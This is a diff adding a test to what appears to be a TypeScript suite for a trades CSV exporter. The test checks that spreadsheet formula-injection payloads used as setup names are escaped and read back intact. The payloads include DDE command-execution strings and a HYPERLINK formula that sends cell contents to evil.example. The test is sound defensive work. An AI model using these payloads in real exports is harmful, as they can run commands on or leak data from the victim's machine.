@@ -82,6 +82,28 @@ describe("trades.csv", () => {
     expect(readTradesCsv(csv)[0]).toMatchObject({ setup_id: hostile.setupId, symbol: "-2+3" });
   });
 
+  it.each([
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example?x="&A1,"click")',
+    "=WEBSERVICE(A1)",
+    "=IMPORTXML(A1)",
+    "+1+1",
+    "+SUM(1)",
+    "-1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "@import",
+    "\t=1+1",
+    "\r=1+1",
+    '=DDE("cmd";"/C calc";"x")',
+  ])("is no formula to a spreadsheet where a setup is called %j, and reads back as it was", (name) => {
+    const csv = text(undefined, { ...HEADER, setupId: name } as unknown as typeof HEADER);
+    expect(csv).not.toMatch(/(?:^|,|\n)"?(?:[=+@\t\r]|-[^0-9])/);
+    expect(csv).toMatch(/,"?'[=+\-@\t\r]/);
+    expect(readTradesCsv(csv)[0]).toMatchObject({ setup_id: name });
+  });
+
   it("reads back numbers as numbers and the empty as null, all rows or some", () => {
     const rows = readTradesCsv(text());
     expect(rows).toHaveLength(2);
